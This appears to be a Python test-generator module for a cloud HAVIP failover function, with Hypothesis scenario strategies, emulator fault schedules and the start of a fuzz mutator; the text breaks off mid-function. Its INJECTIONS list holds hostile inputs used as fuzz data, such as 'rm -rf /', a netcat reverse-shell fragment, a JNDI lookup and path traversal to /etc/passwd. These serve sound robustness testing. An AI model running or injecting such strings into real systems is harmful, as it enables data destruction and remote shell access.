"""Generators shared by the property-based tier (test_properties.py) and the fuzz tier (test_fuzz.py).

Two halves:

* Hypothesis strategies for *scenarios*: an HA pair (ECS or ENI) with one or two HAVIPs
  holding it plus HAVIPs that do not, one event of any source naming an instance as
  failed / recovered / informational, a configuration, and a schedule of emulator faults
  (transient codes, latency, drops, hangs, state mutations that model races). A case is
  plain data (readable when Hypothesis prints a falsifying example); `Case.seed`,
  `EventSpec.build` and `FaultSpec.build` turn it into emulator state, event bytes and
  `vpc_emulator.Fault`s for one region, so every example runs in a region of its own and
  a late request of an earlier example can never be mistaken for one of this example.
* A deterministic mutator (`random.Random(seed)`) of the sample events in `events/` for
  the fuzz tier: byte-level damage, structural damage of the JSON (and of the HTTP body
  inside an HTTP-trigger envelope), injection characters in ids, token and method abuse.

Also the emulator fixture both tiers use (one per test module) and the secrets whose
absence from every output both tiers assert.
"""

from __future__ import annotations

import base64
import json
import random
import threading
import time
import urllib.parse
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from hypothesis import strategies as st

from havip_failover.samples import retime
from havip_failover.sources import MAX_EVENT_BYTES
from vpc_emulator import EmulatorServer, Fault, VpcBackend

ROOT = Path(__file__).resolve().parents[2]
EVENTS_DIR = ROOT / "events"
BUILD_DIR = ROOT / "build" / "reliability"
RUN_STARTED = time.time()  # the "now" of every generated event

# ---------------------------------------------------------------------------------------
# Credentials and secrets: distinctive values, so "never in the output" is a plain substring test.

AK = "LTAIreliabilityKey"
AK_SECRET = "rel-ak-secret-Q8vZ2mXw7Kp"
STS_AK = "STS.reliabilityKey"
STS_SECRET = "rel-sts-secret-Hn4Tc9Lr2Bj"
STS_TOKEN = "CAIS-rel-sts-token-Vd6Ws3Ye8Nq"
CALLBACK_TOKEN = "rel-callback-token-Jm5Rx1Fa9Pz"
SECRETS = (AK_SECRET, STS_SECRET, STS_TOKEN, CALLBACK_TOKEN)
# The sample events carry this one (events/README.md); the fuzz tier configures it.
SAMPLE_CALLBACK_TOKEN = "demo-callback-token"

EMULATOR_CREDENTIALS = {AK: (AK_SECRET, None), STS_AK: (STS_SECRET, STS_TOKEN)}


def start_emulator(unassociate_delay: float = 0.1) -> EmulatorServer:
    """One emulator for a whole test module (Hypothesis examples cannot use function fixtures)."""
    server = EmulatorServer(VpcBackend(unassociate_delay=unassociate_delay), credentials=EMULATOR_CREDENTIALS)
    return server.start()


def write_report(name: str, data: Mapping[str, Any]) -> Path:
    BUILD_DIR.mkdir(parents=True, exist_ok=True)
    path = BUILD_DIR / name
    path.write_text(json.dumps(data, indent=2, sort_keys=True) + "\n", encoding="utf-8")
    return path


# ---------------------------------------------------------------------------------------
# Ids of one scenario. Every example runs in its own region, so the same ids can be reused.

VSWITCH = "vsw-rel000000000000001"
VPC = "vpc-rel000000000000001"
IDS = {
    "ecs": {
        "a": "i-rela00000000000001",
        "b": "i-relb00000000000001",
        "outsider": "i-relc00000000000001",  # exists in the region, on no HAVIP of the pair
        "d1": "i-reld00000000000001",
        "d2": "i-rele00000000000001",
    },
    "eni": {
        "a": "eni-rela0000000000001",
        "b": "eni-relb0000000000001",
        "outsider": "eni-relc0000000000001",
        "d1": "eni-reld0000000000001",
        "d2": "eni-rele0000000000001",
    },
}
TARGETS = ("havip-reltarget000001", "havip-reltarget000002")
DECOYS = ("havip-reldecoy0000001", "havip-reldecoy0000002")
MISSING_HAVIP = "havip-relmissing00001"  # named by some events, exists nowhere
ACCOUNT = "1234567890123456"

TRANSIENT = (
    ("Throttling.User", 400),
    ("Throttling", 400),
    ("Throttling.Api", 400),
    ("ServiceUnavailable", 503),
    ("InternalError", 500),
    ("OperationConflict", 400),
    ("IncorrectHaVipStatus", 400),
    ("IncorrectInstanceStatus", 400),
    ("OperationFailed.QueryNetworkInterfaceInfo", 400),
    ("SystemBusy", 400),
    ("LastTokenProcessing", 400),
    ("OperationFailed.DistibuteLock", 400),
)
PERMANENT = (
    ("InvalidInstanceId.NotFound", 404),
    ("ResourceNotFound.Instance", 400),
    ("InvalidNetworkInterfaceId.NotFound", 400),
)


@dataclass(frozen=True)
class HavipSpec:
    id: str
    instances: tuple[str, ...]
    master: str | None  # None: MasterInstanceId empty ("unknown master")
    # "InUse" | "Available" | "Unassociating" (the other instance is being removed by
    # someone else) | "Associating" (the other instance is being added)
    status: str = "InUse"
    pending_instance: str | None = None
    pending_remaining: float = 0.0


@dataclass(frozen=True)
class EventSpec:
    """One event, as data. `build(region)` gives the bytes the FC entry receives."""

    source: str  # manual | ecs-state | ecs-failure | agent | alarm-http | alarm-webhook | health | batch
    instance: str
    state: str  # what the event says: failed | recovered | info (the oracle, computed independently)
    opts: tuple[tuple[str, Any], ...] = ()
    items: tuple[EventSpec, ...] = ()  # batch only

    def opt(self, key: str, default: Any = None) -> Any:
        return dict(self.opts).get(key, default)

    @property
    def http(self) -> bool:
        return self.source == "alarm-http" or (self.source == "health" and self.opt("via") == "http")

    @property
    def failed(self) -> frozenset[str]:
        if self.source == "batch":
            return frozenset().union(*(i.failed for i in self.items))
        return frozenset({self.instance}) if self.state == "failed" else frozenset()

    @property
    def dry_run(self) -> bool:
        return self.source == "manual" and self.opt("DryRun") is True

    @property
    def explicit_force(self) -> bool | None:
        return self.opt("Force") if self.source == "manual" else None

    def build(self, region: str) -> bytes:
        # Times set to the run's start (one instant for the whole run, so a spec built twice
        # is the same event): a generated event is a fresh one, never a stale one.
        return retime(json.dumps(self.payload(region), ensure_ascii=False).encode("utf-8"), RUN_STARTED)

    def payload(self, region: str) -> Any:
        builder = _BUILDERS[self.source]
        return builder(self, region)


@dataclass(frozen=True)
class FaultSpec:
    """One emulator fault, as data. `build()` gives the `vpc_emulator.Fault`."""

    kind: str  # error | permanent | latency | drop | hang | mutate | lag
    action: str | None
    code: str | None = None
    http_status: int = 400
    times: int = 1
    after: int = 0
    seconds: float = 0.0  # latency or hang
    mutation: str | None = None  # promote | disassociate | disassociate-settled | delete | stopped
    havip: str | None = None
    target: str | None = None  # the instance a mutation is about

    def build(self, backend: VpcBackend, region: str, log: MutationLog) -> Fault:
        if self.kind in ("error", "permanent"):
            return Fault(
                action=self.action, code=self.code, http_status=self.http_status, times=self.times, after=self.after
            )
        if self.kind == "latency":
            return Fault(action=self.action, code=None, latency=self.seconds, times=self.times, after=self.after)
        if self.kind == "drop":
            return Fault(action=self.action, code=None, drop=True, times=self.times, after=self.after)
        if self.kind == "hang":
            return Fault(action=self.action, code=None, hang=self.seconds, times=self.times, after=self.after)
        if self.kind == "lag":  # the describe answers from the state of `seconds` ago
            return Fault(action=self.action, code=None, lag=self.seconds, times=-1)
        return Fault(
            action=self.action,
            code=None,
            times=1,
            after=self.after,
            mutate=lambda b: log.apply(self, b, region),
        )


@dataclass(frozen=True)
class MutationRecord:
    time: float
    havip: str
    mutation: str
    target: str | None
    before: dict[str, Any] | None  # the HAVIP as it was just before the mutation
    applied: bool


class MutationLog:
    """Applies mutations (from inside the emulator's request thread) and remembers them, so
    the invariant checks know which views of a HAVIP the function may legitimately have had."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.records: list[MutationRecord] = []

    def apply(self, spec: FaultSpec, backend: VpcBackend, region: str) -> None:
        assert spec.havip is not None
        before: dict[str, Any] | None
        try:
            before = backend.get_havip(spec.havip)
        except KeyError:
            before = None
        applied = True
        try:  # best effort: the state may already have moved on (that is the point of races)
            if spec.mutation == "promote":
                backend.set_master(spec.havip, spec.target)
            elif spec.mutation in ("disassociate", "disassociate-settled"):
                assert spec.target is not None
                backend.unassociate_ha_vip(
                    "mutation-someone-else",
                    region_id=region,
                    ha_vip_id=spec.havip,
                    instance_id=spec.target,
                    force="true",
                    instance_type="NetworkInterface" if spec.target.startswith("eni-") else "EcsInstance",
                )
                if spec.mutation == "disassociate-settled":
                    backend.settle()
            elif spec.mutation == "delete":
                backend.delete_havip(spec.havip)
            elif spec.mutation == "stopped":
                assert spec.target is not None
                backend.set_instance_status(spec.target, "Stopped")
        except Exception:
            applied = False
        with self._lock:
            self.records.append(
                MutationRecord(time.monotonic(), spec.havip, spec.mutation or "", spec.target, before, applied)
            )


@dataclass(frozen=True)
class Case:
    """One property-based example: the world, the event, the configuration, the faults."""

    kind: str  # ecs | eni
    havips: tuple[HavipSpec, ...]
    statuses: tuple[tuple[str, str], ...]  # ECS instance statuses that are not Running
    event: EventSpec
    force: str = "auto"
    allow_last: bool = False
    dry_run: bool = False
    wait: float = 2.0
    timeout: int = 60
    min_failures: int = 1
    allowlist: tuple[str, ...] = ()
    runtime: str = "python3.10"
    unassociate_delay: float = 0.1
    faults: tuple[FaultSpec, ...] = ()
    log_level: str = "INFO"

    @property
    def ids(self) -> dict[str, str]:
        return IDS[self.kind]

    @property
    def dry(self) -> bool:
        return self.dry_run or self.event.dry_run

    def seed(self, region: str) -> dict[str, Any]:
        status = dict(self.statuses)
        instances = [
            {"id": ident, "vswitch": VSWITCH, **({"status": status[ident]} if ident in status else {})}
            for ident in self.ids.values()
        ]
        havips = []
        for n, h in enumerate(self.havips):
            item: dict[str, Any] = {
                "id": h.id,
                "vpc": VPC,
                "vswitch": VSWITCH,
                "ip": f"192.168.7.{n + 10}",
                "instances": list(h.instances),
                "master": h.master,
            }
            if h.status in ("Unassociating", "Associating"):
                item["status"] = h.status
                item["pending"] = {
                    "op": "unassociate" if h.status == "Unassociating" else "associate",
                    "instance": h.pending_instance,
                    "remaining": h.pending_remaining,
                }
            havips.append(item)
        return {"regions": {region: {"instances": instances, "havips": havips}}}

    def apply(self, server: EmulatorServer, region: str, log: MutationLog) -> None:
        """Reset the emulator to this case (its own region) and arm the faults."""
        server.reset(self.seed(region))
        server.backend.unassociate_delay = self.unassociate_delay
        for h in self.havips:
            if h.master is None and h.instances:
                server.backend.set_master(h.id, None)
        for spec in self.faults:
            server.inject(spec.build(server.backend, region, log))

    def env(self, endpoint: str, region: str) -> dict[str, str]:
        env = {
            "FC_REGION": region,
            "HAVIP_VPC_ENDPOINT": endpoint,
            "HAVIP_ECS_ENDPOINT": endpoint,
            "HAVIP_VPC_PROTOCOL": "http",
            "HAVIP_CALLBACK_TOKEN": CALLBACK_TOKEN,
            "HAVIP_FORCE": self.force,
            "HAVIP_ALLOW_LAST_INSTANCE": str(self.allow_last).lower(),
            "HAVIP_DRY_RUN": str(self.dry_run).lower(),
            "HAVIP_WAIT_SECONDS": str(self.wait),
            "HAVIP_MIN_CONSECUTIVE_FAILURES": str(self.min_failures),
            "HAVIP_IDS": ",".join(self.allowlist),
            "LOG_LEVEL": self.log_level,
        }
        if self.runtime == "python3.12":
            env.update(
                ALIBABA_CLOUD_ACCESS_KEY_ID=STS_AK,
                ALIBABA_CLOUD_ACCESS_KEY_SECRET=STS_SECRET,
                ALIBABA_CLOUD_SECURITY_TOKEN=STS_TOKEN,
            )
        return env

    def budget(self) -> float:
        """The deadline the function promises: min(wait, timeout - margin), 4 s for HTTP."""
        margin = min(3.0, max(0.5, self.timeout * 0.1))
        budget = min(self.wait, self.timeout - margin)
        return min(budget, 4.0) if self.event.http else budget


# ---------------------------------------------------------------------------------------
# Event payloads (the shapes of events/, with the scenario's ids and region)


def _arn(region: str, instance: str) -> str:
    return f"acs:ecs:{region}:{ACCOUNT}:instance/{instance}"


def _cloudevent(spec: EventSpec, region: str, event_type: str, source: str, data: Any) -> dict[str, Any]:
    event: dict[str, Any] = {
        "id": f"rel-{spec.opt('id', 0)}",
        "source": source,
        "specversion": "1.0",
        "type": event_type,
        "subject": _arn(region, spec.instance),
        "time": "2026-11-27T03:05:00Z",
        "datacontenttype": "application/json;charset=utf-8",
        "aliyunaccountid": ACCOUNT,
        "aliyuneventbusname": "default",
        "data": data,
    }
    if spec.opt("region", True):
        event["aliyunregionid"] = region
    return event


def _manual(spec: EventSpec, region: str) -> Any:
    event: dict[str, Any] = {"InstanceId": spec.instance}
    for key in ("HaVipId", "Force", "DryRun", "InstanceType", "ClientToken"):
        if spec.opt(key) is not None:
            event[key] = spec.opt(key)
    if spec.opt("region"):
        event["RegionId"] = region
    return event


def _ecs_state(spec: EventSpec, region: str) -> Any:
    data = {
        "ver": "1.0",
        "id": f"REL-{spec.opt('id', 0)}",
        "product": "ECS",
        "resourceId": _arn(region, spec.instance),
        "level": "WARN",
        "name": "Instance:StateChange",
        "userId": ACCOUNT,
        "eventTime": "20261127T110500.412+0800",
        "regionId": region,
        "content": {"resourceId": spec.instance, "resourceType": "ALIYUN::ECS::Instance", "state": spec.opt("ecs")},
    }
    return _cloudevent(spec, region, "ecs:Instance:StateChange", "acs.ecs", data)


def _ecs_failure(spec: EventSpec, region: str) -> Any:
    content: dict[str, Any] = {"instanceId": spec.instance, "eventType": spec.opt("type").split(":")[-1]}
    if spec.opt("status") is not None:
        content["eventStatus"] = spec.opt("status")
    data = {"product": "ECS", "resourceId": _arn(region, spec.instance), "regionId": region, "content": content}
    return _cloudevent(spec, region, spec.opt("type"), "acs.ecs", data)


def _agent(spec: EventSpec, region: str) -> Any:
    stopped = spec.state == "failed"
    data: dict[str, Any] = {"userId": ACCOUNT, "product": "CloudMonitor", "status": "stopped" if stopped else "running"}
    where = spec.opt("where", "instanceId")
    if where == "instanceId":
        data["instanceId"] = spec.instance
    elif where == "dimensions":
        data["dimensions"] = {"instanceId": spec.instance, "userId": ACCOUNT}
    else:
        data["content"] = {"instanceId": spec.instance}
    event_type = "cms:CloudMonitor:AgentStatusStopped" if stopped else "cms:CloudMonitor:AgentStatusRunning"
    return _cloudevent(spec, region, event_type, "acs.cms", data)


def _alarm_fields(spec: EventSpec, region: str) -> dict[str, Any]:
    fields: dict[str, Any] = {
        "alertName": spec.opt("name", "db-pair host down"),
        "alertState": spec.opt("alertState"),
        "curValue": "0",
        "dimensions": f"{{userId={ACCOUNT}, instanceId={spec.instance}}}",
        "expression": "$Average<1",
        "instanceName": "null",
        "metricName": "Host.heartbeat",
        "metricProject": "acs_ecs_dashboard",
        "namespace": "acs_ecs_dashboard",
        "preTriggerLevel": "null",
        "ruleId": f"rule-{spec.opt('id', 0)}",
        "signature": "eEq1zHuCUp0XSmLD8p8VtTKFd9Q=",
        "timestamp": str(1795748400000 + int(spec.opt("id", 0))),
        "userId": ACCOUNT,
        "regionId": region if spec.opt("region") else "null",
    }
    if spec.opt("triggerLevel") is not None:
        fields["triggerLevel"] = spec.opt("triggerLevel")
    return fields


def http_envelope(body: str, content_type: str, token_via: str, *, base64_body: bool = False) -> dict[str, Any]:
    headers = {"Content-Type": content_type, "User-Agent": "Apache-HttpClient/4.5.13 (Java/1.8.0_352)"}
    query: dict[str, str] = {}
    if token_via == "query":
        query["token"] = CALLBACK_TOKEN
    else:
        headers["X-Havip-Token"] = CALLBACK_TOKEN
    return {
        "version": "v1",
        "rawPath": "/",
        "headers": headers,
        "queryParameters": query,
        "body": base64.b64encode(body.encode()).decode() if base64_body else body,
        "isBase64Encoded": base64_body,
        "requestContext": {
            "accountId": ACCOUNT,
            "domainName": "havip-failover.cn-hangzhou.fcapp.run",
            "http": {"method": "POST", "path": "/", "protocol": "HTTP/1.1", "sourceIp": "47.74.206.12"},
            "requestId": "1-rel",
            "time": "2026-11-27T03:00:01Z",
            "timeEpoch": "1795748401234",
        },
    }


def _alarm_http(spec: EventSpec, region: str) -> Any:
    fields = _alarm_fields(spec, region)
    if spec.opt("body") == "json":
        body, ctype = json.dumps(fields, ensure_ascii=False), "application/json; charset=UTF-8"
    else:
        body, ctype = urllib.parse.urlencode(fields), "application/x-www-form-urlencoded; charset=UTF-8"
    return http_envelope(body, ctype, spec.opt("token", "query"), base64_body=bool(spec.opt("base64")))


def _alarm_webhook(spec: EventSpec, region: str) -> Any:
    return _cloudevent(spec, region, "cms:CloudMonitor:AlertWebHook", "acs.cms", _alarm_fields(spec, region))


def _health_obj(spec: EventSpec, region: str, *, typed: bool) -> dict[str, Any]:
    obj: dict[str, Any] = {"instanceId": spec.instance, "healthy": spec.opt("healthy")}
    if typed:
        obj["type"] = "havip.health"
    if spec.opt("failures") is not None:
        obj["consecutiveFailures"] = spec.opt("failures")
    if spec.opt("HaVipId") is not None:
        obj["haVipId"] = spec.opt("HaVipId")
    if spec.opt("region"):
        obj["regionId"] = region
    obj["id"] = f"check-{spec.opt('id', 0)}"
    obj["checker"] = "keepalived-notify@peer"
    return obj


def _health(spec: EventSpec, region: str) -> Any:
    via = spec.opt("via", "direct")
    if via == "eventbridge":
        return _cloudevent(spec, region, "havip.health", "custom.havip.health", _health_obj(spec, region, typed=False))
    obj = _health_obj(spec, region, typed=True)
    if via == "http":
        return http_envelope(json.dumps(obj), "application/json", spec.opt("token", "header"))
    return obj


def _batch(spec: EventSpec, region: str) -> Any:
    return [item.payload(region) for item in spec.items]


_BUILDERS: dict[str, Callable[[EventSpec, str], Any]] = {
    "manual": _manual,
    "ecs-state": _ecs_state,
    "ecs-failure": _ecs_failure,
    "agent": _agent,
    "alarm-http": _alarm_http,
    "alarm-webhook": _alarm_webhook,
    "health": _health,
    "batch": _batch,
}

# ---------------------------------------------------------------------------------------
# Hypothesis strategies

ECS_STATES = {
    "Stopping": "failed",
    "Stopped": "failed",
    "Deleted": "failed",
    "Running": "recovered",
    "Starting": "info",
    "Pending": "info",
    "Created": "info",
}
FAILURE_TYPES = (
    "ecs:Instance:SystemFailure.Reboot",
    "ecs:Instance:SystemFailure.Redeploy",
    "ecs:Instance:SystemFailure.Stop",
    "ecs:Instance:SystemFailure.Delete",
    "ecs:Instance:InstanceFailure.Reboot",
)


def alarm_state(alert_state: str, level: str | None) -> str:
    """The oracle for CloudMonitor alarms (README's table), written independently of the parser."""
    if alert_state == "OK":
        return "recovered"
    if alert_state == "INSUFFICIENT_DATA":
        return "info"
    return "failed" if level in (None, "CRITICAL", "WARN") else "info"


@st.composite
def event_specs(
    draw: st.DrawFn, kind: str, *, min_failures: int, only: str | None = None, sources: tuple[str, ...] = ()
) -> EventSpec:
    """One event naming an instance of the scenario.

    only=None: mostly failures (three in four), the rest recoveries and informational;
    only="quiet": recoveries and informational signals only.
    """
    quiet = only == "quiet"
    ids = IDS[kind]
    instance = draw(st.sampled_from([ids["a"], ids["a"], ids["b"], ids["b"], ids["outsider"]]))
    ident = draw(st.integers(0, 10**6))
    havip_choice = st.sampled_from([None] * 4 + [TARGETS[0]] * 3 + [TARGETS[1], DECOYS[0], MISSING_HAVIP])
    choices = (
        ["manual", "health"]
        if kind == "eni"
        else [
            "manual",
            "ecs-state",
            "ecs-failure",
            "agent",
            "alarm-http",
            "alarm-webhook",
            "health",
        ]
    )
    if quiet:
        choices = [c for c in choices if c not in ("manual", "ecs-failure")]
    elif kind == "ecs":
        choices.append("batch")
    source = draw(st.sampled_from(list(sources) or choices))
    fail = False if quiet else draw(st.sampled_from([True, True, True, False]))

    if source == "batch":
        n = draw(st.integers(2, 3))
        items = [draw(event_specs(kind, min_failures=min_failures, sources=_EB_SOURCES)) for _ in range(n)]
        if draw(st.booleans()):  # EventBridge delivering one event twice within a batch
            items[1] = items[0]
        state = "failed" if any(i.state == "failed" for i in items) else "info"
        return EventSpec("batch", items[0].instance, state, items=tuple(items))

    if source == "manual":
        opts = {
            "HaVipId": draw(havip_choice),
            "Force": draw(st.sampled_from([None, None, None, True, False])),
            "DryRun": draw(st.sampled_from([None, None, None, None, True, False])),
            "region": draw(st.booleans()),
            "ClientToken": draw(st.sampled_from([None, None, f"change-{ident}"])),
            "InstanceType": draw(st.sampled_from([None, "EcsInstance" if kind == "ecs" else "NetworkInterface"])),
        }
        return EventSpec("manual", instance, "failed", tuple(opts.items()))
    if source == "ecs-state":
        states = [s for s, v in ECS_STATES.items() if (v == "failed") == fail]
        ecs = draw(st.sampled_from(states))
        opts1 = (("ecs", ecs), ("id", ident), ("region", draw(st.booleans())))
        return EventSpec(source, instance, ECS_STATES[ecs], opts1)
    if source == "ecs-failure":
        # README's table: Executing (or no status) is down now; Executed of a reboot/redeploy is
        # back, of a stop/delete is down; announced, avoided, cancelled or failed is nothing.
        event_type = draw(st.sampled_from(FAILURE_TYPES))
        comes_back = event_type.endswith(("Reboot", "Redeploy"))
        if fail:
            statuses = [None, "Executing"] if comes_back else [None, "Executing", "Executed"]
            status, state = draw(st.sampled_from(statuses)), "failed"
        else:
            quiet_statuses = ["Canceled", "Avoided", "Scheduled", "Inquiring", "Failed"]
            status = draw(st.sampled_from([*quiet_statuses, "Executed"] if comes_back else quiet_statuses))
            state = "recovered" if status == "Executed" else "info"
        opts2 = (("type", event_type), ("status", status), ("id", ident), ("region", True))
        return EventSpec(source, instance, state, opts2)
    if source == "agent":
        where = draw(st.sampled_from(["instanceId", "dimensions", "content"]))
        opts_a = (("where", where), ("id", ident), ("region", True))
        return EventSpec(source, instance, "failed" if fail else "recovered", opts_a)
    if source in ("alarm-http", "alarm-webhook"):
        if fail:
            alert, level = "ALERT", draw(st.sampled_from([None, "CRITICAL", "CRITICAL", "WARN"]))
        else:
            alert = draw(st.sampled_from(["ALERT", "OK", "INSUFFICIENT_DATA"]))
            levels = ["INFO", "OK"] if alert == "ALERT" else [None, "CRITICAL", "WARN", "INFO", "OK"]
            level = draw(st.sampled_from(levels))
        opts3: dict[str, Any] = {"alertState": alert, "triggerLevel": level, "id": ident, "region": draw(st.booleans())}
        if source == "alarm-http":
            opts3["body"] = draw(st.sampled_from(["form", "form", "json"]))
            opts3["token"] = draw(st.sampled_from(["query", "header"]))
            opts3["base64"] = draw(st.booleans())
            opts3["name"] = draw(st.sampled_from(["db-pair host down", "数据库主节点不可达"]))
        return EventSpec(source, instance, alarm_state(alert, level), tuple(opts3.items()))
    # health check: failed when unhealthy with at least HAVIP_MIN_CONSECUTIVE_FAILURES failures
    threshold = max(1, min_failures)
    if fail:
        healthy, failures = False, draw(st.sampled_from([None, threshold, threshold + 2]))
        if failures is None and threshold > 1:
            failures = threshold
    else:
        healthy = draw(st.booleans())
        failures = draw(st.sampled_from([None, 0, 1, 3])) if healthy else draw(st.integers(0, threshold - 1))
        if not healthy and failures == 0 and draw(st.booleans()):
            failures = None if threshold > 1 else 0
    effective = 1 if failures is None else failures
    state = "recovered" if healthy else ("failed" if effective >= threshold else "info")
    via = draw(st.sampled_from(["direct", "http", "eventbridge"] if kind == "ecs" else ["direct", "http"]))
    opts4 = {
        "healthy": healthy,
        "failures": failures,
        "HaVipId": draw(havip_choice),
        "region": draw(st.booleans()),
        "via": via,
        "id": ident,
        "token": draw(st.sampled_from(["query", "header"])),
    }
    return EventSpec("health", instance, state, tuple(opts4.items()))


_EB_SOURCES = ("ecs-state", "ecs-failure", "agent", "alarm-webhook")


@st.composite
def havip_layouts(draw: st.DrawFn, kind: str) -> tuple[HavipSpec, ...]:
    ids = IDS[kind]
    a, b = ids["a"], ids["b"]
    n_targets = draw(st.integers(1, 2))
    havips: list[HavipSpec] = []
    for n in range(n_targets):
        instances = draw(st.sampled_from([(a, b), (a, b), (b, a), (a,), (b,)]))
        master = draw(st.sampled_from([*instances, *instances, None]))
        status = draw(st.sampled_from(["InUse"] * 8 + ["Unassociating", "Associating"]))
        if status == "Unassociating" and len(instances) == 2:
            other = draw(st.sampled_from(instances))
            remaining = draw(st.sampled_from([0.1, 0.3, 0.6]))
            havips.append(HavipSpec(TARGETS[n], instances, master, "Unassociating", other, remaining))
        elif status == "Associating" and len(instances) == 1:
            other = b if instances == (a,) else a
            remaining = draw(st.sampled_from([0.1, 0.3, 0.6]))
            havips.append(HavipSpec(TARGETS[n], instances, master, "Associating", other, remaining))
        else:
            havips.append(HavipSpec(TARGETS[n], instances, master))
    for n in range(draw(st.integers(0, 2))):
        instances = draw(st.sampled_from([(ids["d1"], ids["d2"]), (ids["outsider"],), (ids["d1"],), ()]))
        master = instances[0] if instances else None
        havips.append(HavipSpec(DECOYS[n], instances, master, "InUse" if instances else "Available"))
    return tuple(havips)


@st.composite
def fault_specs(draw: st.DrawFn, kind: str, havips: tuple[HavipSpec, ...], wait: float) -> FaultSpec:
    ids = IDS[kind]
    targets = [h.id for h in havips if h.id in TARGETS]
    fkind = draw(
        st.sampled_from(
            ["error", "error", "error", "permanent", "latency", "drop", "hang", "mutate", "mutate", "mutate", "lag"]
            + (["ecs"] if kind == "ecs" else [])
        )
    )
    action = draw(st.sampled_from(["DescribeHaVips", "UnassociateHaVip", "UnassociateHaVip", None]))
    after = draw(st.integers(0, 2))
    if fkind == "error":
        code, status = draw(st.sampled_from(TRANSIENT))
        times = draw(st.sampled_from([1, 1, 2, 3, -1]))
        return FaultSpec("error", action, code, status, times=times, after=after)
    if fkind == "permanent":
        code, status = draw(st.sampled_from(PERMANENT))
        return FaultSpec("permanent", "UnassociateHaVip", code, status, times=1, after=after)
    if fkind == "latency":
        seconds = draw(st.sampled_from([0.05, 0.2, 0.5, 1.0, 1.5]))
        return FaultSpec("latency", action, times=draw(st.integers(1, 2)), after=after, seconds=seconds)
    if fkind == "drop":
        return FaultSpec("drop", action, times=draw(st.integers(1, 2)), after=after)
    if fkind == "hang":
        seconds = draw(st.sampled_from([0.3, 0.8, max(0.3, wait - 0.5), wait]))
        return FaultSpec("hang", action, times=1, after=after, seconds=seconds)
    if fkind == "lag":
        return FaultSpec("lag", "DescribeHaVips", seconds=draw(st.sampled_from([0.5, 1.0, 2.0])))
    if fkind == "ecs":  # the survivor check's ECS call: throttled, or denied by RAM
        code, status = draw(st.sampled_from([*TRANSIENT[:2], ("Forbidden.RAM", 403)]))
        return FaultSpec("error", "DescribeInstanceStatus", code, status, times=draw(st.sampled_from([1, 2, -1])))
    mutation = draw(
        st.sampled_from(["promote", "promote", "disassociate", "disassociate-settled", "delete", "stopped"])
    )
    target = draw(st.sampled_from([ids["a"], ids["b"]]))
    if mutation == "stopped" and kind == "eni":
        mutation = "promote"
    return FaultSpec(
        "mutate",
        draw(st.sampled_from(["DescribeHaVips", "UnassociateHaVip"])),
        after=after,
        mutation=mutation,
        havip=draw(st.sampled_from(targets)),
        target=target,
    )


@st.composite
def cases(draw: st.DrawFn, *, only: str | None = None, faults: bool = True, races: bool = False) -> Case:
    kind = draw(st.sampled_from(["ecs", "ecs", "eni"]))
    ids = IDS[kind]
    min_failures = draw(st.sampled_from([1, 1, 2, 3]))
    havips = draw(havip_layouts(kind))
    event = draw(event_specs(kind, min_failures=min_failures, only=only))
    statuses: list[tuple[str, str]] = []
    if kind == "ecs":
        for who in ("a", "b"):
            status = draw(st.sampled_from(["Running"] * 6 + ["Stopped", "Stopping"]))
            if status != "Running":
                statuses.append((ids[who], status))
    wait = draw(st.sampled_from([1.0, 1.5, 2.0, 3.0]))
    allowlist: tuple[str, ...] = ()
    if draw(st.integers(0, 3)) == 0:
        allowlist = tuple(
            draw(
                st.lists(st.sampled_from([h.id for h in havips] + [MISSING_HAVIP]), min_size=1, max_size=3, unique=True)
            )
        )
    schedule: tuple[FaultSpec, ...] = ()
    if faults:
        n = draw(st.sampled_from([0, 0, 1, 1, 2, 3] if not races else [1, 2, 3]))
        specs = [draw(fault_specs(kind, havips, wait)) for _ in range(n)]
        if races:
            specs = [s for s in specs if s.kind == "mutate"] or [
                draw(fault_specs(kind, havips, wait).filter(lambda s: s.kind == "mutate"))
            ]
        if any(s.kind == "lag" for s in specs):
            # A change made before a look that a lagging describe does not show yet is one no
            # client can see (README): the races stay those between a look and a call.
            specs = [s for s in specs if not (s.kind == "mutate" and s.action == "DescribeHaVips")]
        schedule = tuple(specs)
    return Case(
        kind=kind,
        havips=havips,
        statuses=tuple(statuses),
        event=event,
        force=draw(st.sampled_from(["auto", "auto", "never"])),
        allow_last=draw(st.booleans()),
        dry_run=draw(st.sampled_from([False, False, False, True])),
        wait=wait,
        timeout=draw(st.sampled_from([3, 5, 10, 60, 60])),
        min_failures=min_failures,
        allowlist=allowlist,
        runtime=draw(st.sampled_from(["python3.10", "python3.12"])),
        unassociate_delay=draw(st.sampled_from([0.05, 0.1, 0.2, 0.3])),
        faults=schedule,
        log_level=draw(st.sampled_from(["INFO", "INFO", "DEBUG"])),
    )


# ---------------------------------------------------------------------------------------
# The fuzz tier's mutator

INJECTIONS = (
    ";rm -rf /",
    "$(reboot)",
    "`id`",
    "../../../etc/passwd",
    "..\\..\\windows",
    "\n",
    "\r\nX-Injected: 1",
    "\x00",
    "\u202e",  # right-to-left override
    "\u200b",  # zero-width space
    "\ufeff",
    "\u0456-bp1master000000001",  # Cyrillic і: a lookalike of "i-bp1master…"
    "\uff49-bp1master000000001",  # fullwidth ｉ
    "i\u2010bp1master000000001",  # a hyphen lookalike
    "I-BP1MASTER000000001",
    " i-bp1master000000001 ",
    "%00",
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "|nc -e sh 1.2.3.4 1",
    "&&",
)
ID_KEYS = frozenset(
    {"InstanceId", "instanceId", "HaVipId", "haVipId", "resourceId", "RegionId", "regionId", "aliyunregionid"}
)


@dataclass
class FuzzCase:
    sample: str
    op: str
    data: bytes
    must_reject: bool = False
    expect_codes: frozenset[str] = frozenset()  # a rejection must carry one of these (when given)
    expect_status: frozenset[int] = frozenset()  # for HTTP envelopes (when given)
    names: str | None = None  # the rejection message must name this (when given)


# What a rejection's message must name, by operation (when the operation says it).
_OP_NAMES = {
    "token-missing": "token",
    "token-empty": "token",
    "token-wrong": "token",
    "token-header-wrong": "token",
    "token-list": "token",
    "method": "method",
    "body-type": "body",
    "headers-type": "headers",
    "content-type": "Content-Type",
    "base64-flag": "isBase64Encoded",
    "invalid-utf8": "utf-8",
    "oversize": "larger than",
    "deep-nesting": "nests",
    "deep-value": "nests",
    "body-form:inject-dimensions": "instanceId",
}


def _is_order(data: bytes) -> bool:
    """A JSON object with a manual order's markers and no other shape's (README: refused over HTTP)."""
    try:
